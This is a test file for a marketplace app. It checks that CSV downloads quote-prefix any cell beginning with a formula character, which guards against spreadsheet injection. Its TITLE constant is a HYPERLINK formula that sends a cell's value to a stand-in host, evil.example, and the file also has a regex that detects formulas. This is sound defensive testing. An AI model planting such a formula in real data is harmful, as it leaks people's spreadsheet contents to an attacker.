import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aMarket, type Market } from './support/builders.js';
import { gql, ok } from './support/client.js';
import { resetState, startHarness, type Harness } from './support/harness.js';
import * as op from './support/operations.js';
import { aDeliveredContract, fullInterval, reportDelivery } from './support/settlement-fixtures.js';

/**
 * CSV injection (review of issue 16): a tenant's text in another party's download must never be
 * a spreadsheet formula. A brand names its spike `=HYPERLINK(...)`; the operator's routing plan
 * and awards downloads carry the title, and a spreadsheet would run it on open. Every text cell
 * that starts with = + - @ TAB or CR is prefixed with a quote ('), as OWASP recommends; amounts
 * (plain decimals such as -4.00) stay numbers.
 */
let h: Harness;
let m: Market;
let base: string;
let spikeId: string;
let invoiceId: string;
const TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';

beforeAll(async () => {
  h = await startHarness();
  await resetState(h);
  m = await aMarket(h.url, h.operatorKey);
  base = h.url.replace(/\/graphql$/, '');
  const contractId = await aDeliveredContract(h, m, { title: TITLE });
  spikeId = ok(await gql(h.url, `query($id: UUID!) { contract(id: $id) { spikeId } }`, { id: contractId }, m.brand.key)).contract.spikeId;
  ok(
    await reportDelivery(
      h,
      contractId,
      m.vendorA.key,
      [0, 1, 2, 3].map((i) => fullInterval(i)),
    ),
  );
  invoiceId = ok(await gql(h.url, op.SETTLE, { id: contractId }, m.brand.financeKey)).settleContract.invoice.id;
}, 120_000);
afterAll(async () => {
  await h?.close();
});

/** Every cell of an RFC 4180 CSV, unquoted. */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || (ch === '\r' && text[i + 1] === '\n')) {
      cells.push(cell);
      cell = '';
      if (ch === '\r') i++;
    } else cell += ch;
  }
  return cells;
}

const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('CSV downloads never hand a spreadsheet a formula', () => {
  it('routing plan and awards for the operator: the brand’s title arrives as text, quote-prefixed', async () => {
    for (const path of [`/exports/routing-plan/${spikeId}.csv`, `/exports/awards/${spikeId}.csv`]) {
      const res = await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${h.operatorKey}` } });
      expect(res.status).toBe(200);
      const cells = cellsOf(await res.text());
      expect(cells.filter(formula), path).toEqual([]);
      expect(cells).toContain(`'${TITLE}`);
    }
  });

  it('invoice and statement for the vendor: no formula, and amounts still plain decimals', async () => {
    const res = await fetch(`${base}/exports/invoices/${invoiceId}.csv`, { headers: { authorization: `Bearer ${m.vendorA.financeKey}` } });
    expect(res.status).toBe(200);
    const cells = cellsOf(await res.text());
    expect(cells.filter(formula)).toEqual([]);
    expect(cells).toContain('200.00');
  });
});
